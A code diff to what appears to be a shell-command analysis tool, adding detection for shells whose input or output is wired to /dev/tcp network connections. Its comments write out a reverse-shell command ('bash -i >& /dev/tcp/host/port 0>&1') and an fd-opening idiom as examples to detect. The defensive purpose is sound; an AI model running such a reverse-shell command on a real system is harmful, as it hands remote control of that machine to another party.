@@ -339,6 +339,8 @@ function walk(src: string, state: State, via: string[], depth: number, b: Budget
           rawExtra.push(tok);
           const target = resolve(tok);
           if (op === '<') stdin = { kind: 'file', path: target };
+          // `<&3`: stdin is whatever fd 3 was opened on (`exec 3</dev/tcp/…`), unknown here.
+          if (op === '<&' && /^[1-9]\d*$/.test(target)) stdin = { kind: 'file', path: UNKNOWN };
           redirects.push({ op, target });
         }
         continue;
@@ -857,6 +859,12 @@ const NETWORK_DEVICE = /^\/dev\/(tcp|udp)\//;
 
 /** A shell with no script and no -c reads its program from stdin: a heredoc, a pipe, a file. */
 function shellStdin(cmd: SimpleCommand, name: string, state: State, b: Budget, from: Inputs, inner: InnerFn, stdinInputs: SimpleCommand[]): void {
+  // `bash -i >& /dev/tcp/host/port 0>&1`: a shell wired to a network connection (a reverse shell).
+  const net = cmd.redirects.find((r) => NETWORK_DEVICE.test(r.target));
+  if (net !== undefined) {
+    setRuns(cmd, b, { kind: 'unknown-code', how: 'stdin', source: net.target, file: net.target }, []);
+    return;
+  }
   const s = cmd.stdin;
   if (s === undefined) return;
   switch (s.kind) {
